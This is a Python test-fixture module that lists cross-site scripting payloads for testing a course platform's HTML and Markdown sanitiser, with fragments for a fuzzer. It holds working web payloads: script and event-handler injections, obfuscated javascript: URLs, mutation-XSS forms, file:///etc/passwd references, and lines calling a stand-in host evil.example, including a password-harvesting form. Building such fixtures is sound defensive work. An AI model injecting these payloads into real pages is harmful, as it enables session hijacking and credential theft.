"""XSS payloads for course content: one line each, so each fits a heading, an option or a quote.

Grouped as the security bar lists them: script, event handlers, `javascript:` in every
spelling, `data:` and other schemes, embedding and page-changing tags, mutation-XSS forms.
`a.png` is a file the tests put in the course folder, so the loader accepts the reference.
"""

SCRIPT = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<script/src="data:text/javascript,alert(1)"></script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*</script><script>*/alert(1)</script>",
    '"><script>alert(1)</script>',
    "'';!--\"<XSS>=&{()}",
    "`<script>` in code, then <script>alert(1)</script> outside it",
)
EVENT_HANDLERS = (
    "<img src=a.png onerror=alert(1)>",
    '<img src="a.png" ONERROR="alert(1)">',
    "<img src=a.png onerror\t=\talert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="https://example.org/" onclick="alert(1)">click</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=a.png onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<p onpointerenter=alert(1)>p</p>",
    "<frameset onload=alert(1)>",
    "<isindex type=image src=a.png onerror=alert(1)>",
)
JAVASCRIPT_URLS = (
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="java&#x09;script:alert(1)">a</a>',
    '<a href="&#x01;javascript:alert(1)">a</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">a</a>',
    '<a href="javascript&colon;alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="livescript:alert(1)">a</a>',
    "[link](javascript:alert(1))",
    "[link](JAVASCRIPT:alert(1))",
    "[link](<javascript:alert(1)>)",
    "[link](javascript&#58;alert(1))",
    '[link]( javascript:alert(1) "title")',
    "[link](jav&#x09;ascript:alert(1))",
    "![img](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<button formaction="javascript:alert(1)">x</button>',
    '<object data="javascript:alert(1)"></object>',
    '<math href="javascript:alert(1)">m</math>',
    '<img srcset="https://evil.example/x 1x, javascript:alert(1) 2x">',
)
OTHER_SCHEMES = (
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    "[d](data:text/html,<script>alert(1)</script>)",
    "![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="file:///etc/passwd">',
    "![f](file:///etc/passwd)",
)
EMBEDDING_TAGS = (
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="x.class"></applet>',
    '<form action="https://evil.example/steal"><input name="password"><button>OK</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
    '<div style="background-image:url(javascript:alert(1))">s</div>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
)
MUTATION_XSS = (
    "<math><mtext><table><mglyph><style><img src=a.png onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=a.png onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=a.png onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<title><img src=a.png onerror=alert(1)></title>",
    "<textarea></textarea><img src=a.png onerror=alert(1)>",
    "<xmp><img src=a.png onerror=alert(1)></xmp>",
    "<template><img src=a.png onerror=alert(1)></template>",
    "<!--><img src=a.png onerror=alert(1)>-->",
    '<a href="https://example.org/" title="&quot;&gt;&lt;img src=a.png onerror=alert(1)&gt;">t</a>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a href="https://example.org/"><img src=a.png onerror=alert(1)//</a>',
)

PAYLOADS: tuple[str, ...] = (
    *SCRIPT, *EVENT_HANDLERS, *JAVASCRIPT_URLS, *OTHER_SCHEMES, *EMBEDDING_TAGS, *MUTATION_XSS
)

# Pieces the sanitiser fuzzer splices into random text.
FRAGMENTS: tuple[str, ...] = (
    "<script>", "</script>", "<img src=a.png onerror=alert(1)>", "javascript:", "JaVa\tScRiPt:",
    "&#106;", "&#x3A;", "&colon;", '<a href="', '">', "[x](", ")", "![", "](", "<svg", " onload=",
    "<iframe", "<!--", "-->", "<style>", "</style>", "<math>", "<mglyph>", "<noscript>",
    '<p title="', "<form", "<base href=", "<meta", "<object", "<embed", "data:text/html,",
    "vbscript:", "<", ">", '"', "'", "=", "`", "\n", "\n\n", "    ", "> ", "- ", "## ", "|",
    "<details open ontoggle=", "<textarea>", "</textarea>", "<title>", "<xmp>", "<template>",
    " style=", "<a href=javascript:alert(1)>", "<", "/", "\x00", "&", ";",
)
